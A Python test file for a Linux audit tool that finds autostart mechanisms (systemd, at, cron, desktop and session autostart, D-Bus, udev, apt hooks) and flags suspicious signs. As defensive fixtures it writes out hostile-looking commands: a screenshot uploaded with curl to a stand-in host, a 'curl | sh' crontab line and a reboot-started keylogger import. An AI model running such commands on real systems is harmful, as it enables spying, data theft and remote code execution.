"""The ways in which a system starts things, each with files as its real programs write them."""

from __future__ import annotations

from pathlib import Path

from audit.artifacts import boot, desktop_starts, jobs
from audit.artifacts.autostart import REPLACEABLE, Autostart
from audit.artifacts.signs import DOWNLOADS, KEYS, SCREEN, SENDS
from tests.artifacts.devices import see, system

UNIT = "[Service]\nExecStart={}\n[Install]\nWantedBy=multi-user.target\n"
# As Debian's at 3.2.5 wrote it; the environment is shortened.
AT_JOB = """#!/bin/sh
# atrun uid=1000 gid=1000
# mail alice 0
umask 22
SECRET=hunter2; export SECRET
cd /home/alice || {
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}
scrot /home/alice/.x/a.png
"""


def linked(root: Path, link: str, target: str) -> None:
    place = root / link
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(target)


def programs(root: Path, way: str) -> list[tuple[str, str]]:
    return sorted(
        (each.name, each.program) for each in see(root, Autostart) if each.way == way and each.enabled
    )


def test_the_first_folder_with_a_unit_counts_and_one_masked_there_is_off(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "usr/lib/systemd/system/a.service": UNIT.format("/usr/bin/a"),
        "usr/lib/systemd/system/b.service": UNIT.format("/usr/bin/b"),
        "etc/systemd/system/b.service": UNIT.format("/opt/b"),
        "usr/lib/systemd/system/c@.service": UNIT.format("/usr/bin/c"),
        "etc/systemd/system/left.service": UNIT.format("/opt/left"),
    }
    root = system(tmp_path, files)
    wants = "usr/lib/systemd/system/multi-user.target.wants"
    for name in ("a.service", "b.service"):
        linked(root, f"{wants}/{name}", f"../{name}")
    linked(root, f"{wants}/c@tty1.service", "../c@.service")
    linked(root, "etc/systemd/system/a.service", "/dev/null")
    assert programs(root, "system service") == [("b.service", "/opt/b"), ("c@tty1.service", "/usr/bin/c")]
    off = [each.name for each in see(root, Autostart) if not each.enabled]
    assert off == ["left.service"]


def test_a_display_manager_and_generators_start_by_themselves(tmp_path: Path) -> None:
    root = system(tmp_path, {"usr/lib/systemd/system/gdm.service": UNIT.format("/usr/sbin/gdm3"),
                             "etc/systemd/system-generators/g": "#!/bin/sh\n"})  # fmt: skip
    linked(root, "etc/systemd/system/display-manager.service", "/usr/lib/systemd/system/gdm.service")
    assert programs(root, "system service") == [
        ("display-manager.service", "/usr/sbin/gdm3"),
        ("g", "/etc/systemd/system-generators/g"),
    ]


def test_a_job_of_at_is_read_from_behind_its_environment(tmp_path: Path) -> None:
    root = system(
        tmp_path, {"var/spool/cron/atjobs/a0000101c89954": AT_JOB, "var/spool/cron/atjobs/.SEQ": "1"}
    )
    (found,) = see(root, Autostart)
    assert (found.program, found.user, found.as_root, found.line, found.signs) == (
        "scrot",
        "alice",
        False,
        10,
        (SCREEN,),
    )
    assert "hunter2" not in repr(found)
    assert jobs.parse_at_job(AT_JOB.encode()) == (1000, "alice", [(10, "scrot /home/alice/.x/a.png")])


def test_systems_without_systemd(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "etc/init.d/sshd": "#!/sbin/openrc-run\n",
        "etc/init.d/cron": "#!/bin/sh\n",
        "etc/sv/dbus/run": "#!/bin/sh\nexec dbus-daemon --system\n",
        "etc/crontabs/root": "*/15 * * * * run-parts /etc/periodic/15min\n",
        "etc/periodic/daily/backup": "#!/bin/sh\nrclone sync /home remote:x\n",
        "etc/inittab": "# x\ntty1::respawn:/sbin/getty 38400 tty1\n::sysinit:/sbin/openrc sysinit\n",
    }
    root = system(tmp_path, files)
    linked(root, "etc/runlevels/default/sshd", "/etc/init.d/sshd")
    linked(root, "etc/rc2.d/S01cron", "../init.d/cron")
    linked(root, "etc/rc2.d/K01gone", "../init.d/gone")
    linked(root, "etc/runit/runsvdir/default/dbus", "/etc/sv/dbus")
    assert programs(root, "script of the system") == [
        ("cron", "/etc/init.d/cron"),
        ("dbus", "/etc/runit/runsvdir/default/dbus/run"),
        ("inittab", "/sbin/getty"),
        ("inittab", "/sbin/openrc"),
        ("sshd", "/etc/init.d/sshd"),
    ]
    jobs_found = {each.program: each.signs for each in see(root, Autostart) if each.way == "scheduled job"}
    assert jobs_found == {"run-parts": (), "/etc/periodic/daily/backup": (SENDS,)}


def test_autostart_entries_that_cannot_start(tmp_path: Path) -> None:
    folder = "home/alice/.config/autostart"
    entry = "[Desktop Entry]\nType=Application\nExec=/usr/bin/x\n"
    files: dict[str, str | bytes] = {
        f"{folder}/gone.desktop": entry + "TryExec=not-there\n",
        f"{folder}/there.desktop": entry + "TryExec=tool\n",
        f"{folder}/nowhere.desktop": entry + "OnlyShowIn=\n",
        f"{folder}/gnome.desktop": entry + "OnlyShowIn=GNOME;\n",
        "usr/bin/tool": "",
        "home/alice/snap/app/x1/.config/autostart/snapped.desktop": entry,
    }
    root = system(tmp_path, files)
    linked(root, "home/alice/snap/app/current", "x1")
    assert [name for name, _ in programs(root, "desktop autostart")] == [
        "gnome.desktop",
        "snapped.desktop",
        "there.desktop",
    ]


def test_scripts_of_a_session(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "home/alice/.xprofile": "# mine\nexport A=b\nif true; then\n  /opt/a &\nfi\n",
        "home/alice/.config/autostart-scripts/b.sh": "#!/bin/sh\n",
        "home/alice/.config/sway/config": "bindsym $mod+p exec grim\nexec_always --no-startup-id ~/.x/c\nexec /opt/d\n",
        "home/alice/.config/hypr/hyprland.conf": "exec-once = /opt/e & /opt/f\n",
        "home/alice/.config/lxsession/LXDE/autostart": "@lxpanel --profile LXDE\n",
        "etc/X11/Xsession.d/99g": "/opt/g\n",
        "etc/profile.d/h.sh": "x=1\n",
    }
    assert [program for _, program in programs(system(tmp_path, files), "login script")] == [
        "/opt/a",
        "/etc/X11/Xsession.d/99g",
        "lxpanel",
        "~/.config/autostart-scripts/b.sh",
        "/opt/d",
        "~/.x/c",
        "/etc/profile.d/h.sh",
        "/opt/e",
        "/opt/f",
    ]


def test_names_on_the_bus(tmp_path: Path) -> None:
    text = "[D-BUS Service]\nName={}\nExec={}\n"
    files: dict[str, str | bytes] = {
        "usr/share/dbus-1/services/org.a.service": text.format("org.a", "/usr/bin/a"),
        "home/alice/.local/share/dbus-1/services/other.service": text.format("org.a", "/home/alice/.x/a"),
        "home/alice/.local/share/dbus-1/services/org.b.service": text.format("org.b", "/home/alice/bin/b"),
    }
    found = see(system(tmp_path, files), Autostart)
    assert [(each.name, each.program, each.signs) for each in found] == [
        ("org.b", "~/bin/b", ()),
        ("org.a", "~/.x/a", (desktop_starts.SHADOWS,)),
    ]


def test_rules_for_devices() -> None:
    text = b"""# RUN+="no"
ACTION=="add", SUBSYSTEM=="usb", \\
  ATTRS{idVendor}=="1234", RUN+="/usr/local/bin/x %k", RUN{builtin}+="kmod load $env{MODALIAS}"
PROGRAM=="scsi_id -g", IMPORT{program}="/bin/sh -c 'echo \\"a\\"'", ENV{RUN_TWICE}="no"
"""
    assert boot.parse_udev(text) == [
        (2, "/usr/local/bin/x %k"),
        (4, "scsi_id -g"),
        (4, "/bin/sh -c 'echo \\\"a\\\"'"),
    ]


def test_hooks_of_apt_and_of_modules() -> None:
    text = b"""// note "no";
DPkg::Post-Invoke {
   "/usr/bin/a || true";
   "b";
};
APT::Update::Pre-Invoke { "c; ${x}"; };
DPkg::Pre-Invoke "d";
APT::Periodic::Enable "1";
"""
    assert [command for _, command in boot.parse_apt_hooks(text)] == [
        "/usr/bin/a || true",
        "b",
        "c; ${x}",
        "d",
    ]
    assert boot.parse_modprobe(b"blacklist x\ninstall snd /bin/sh -c y\noptions z a=b\n") == [
        (2, "snd", "/bin/sh -c y")
    ]
    assert boot.parse_modules(b"# x\n\nloop\nlp # y\n") == [(3, "loop"), (4, "lp")]


def test_what_a_script_of_a_person_does_is_a_sign_and_a_systems_is_not_read(tmp_path: Path) -> None:
    script = "#!/bin/bash\n# curl x | sh\nimport -window root a.png\ncurl -F file=@a.png https://x.example/\n"
    files: dict[str, str | bytes] = {
        "home/alice/bin/s.sh": script,
        "usr/bin/t": script,
        "var/spool/cron/crontabs/alice": "* * * * * /home/alice/bin/s.sh\n* * * * * /usr/bin/t\n",
    }
    found = see(system(tmp_path, files), Autostart)
    assert [(each.program, each.signs, each.line) for each in found] == [
        ("~/bin/s.sh", (SCREEN, SENDS), 1),
        ("/usr/bin/t", (), 2),
    ]


def test_a_program_of_root_that_others_can_change(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "opt/x": "x",
        "opt/y": "y",
        "etc/cron.d/j": "* * * * * root /opt/x\n* * * * * root /opt/y\n* * * * * root /home/alice/z\n",
    }
    root = system(tmp_path, files)
    (root / "opt/x").chmod(0o777)
    found = {each.program: each.signs for each in see(root, Autostart)}
    assert found["/opt/x"] == found["~/z"] == (REPLACEABLE,)
    assert found["/opt/y"] == ()


def test_one_program_on_several_lines_counts_once(tmp_path: Path) -> None:
    table = "0 1 * * * /opt/x\n0 2 * * * /opt/x\n0 3 * * * curl https://x | sh\n"
    found = see(system(tmp_path, {"var/spool/cron/crontabs/alice": table}), Autostart)
    assert next((each.program, each.line) for each in found) == ("/opt/x", 1)
    assert {each.signs for each in found if each.program != "/opt/x"} == {(DOWNLOADS,)}


def test_a_program_run_by_python_is_read_without_a_first_line_that_says_so(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "home/alice/k.py": "from pynput.keyboard import Listener\n",
        "home/alice/elf": b"\x7fELF import pynput",
        "var/spool/cron/crontabs/alice": "@reboot python3 /home/alice/k.py\n@reboot /home/alice/elf\n",
    }
    assert [each.signs for each in see(system(tmp_path, files), Autostart)] == [(KEYS,), ()]
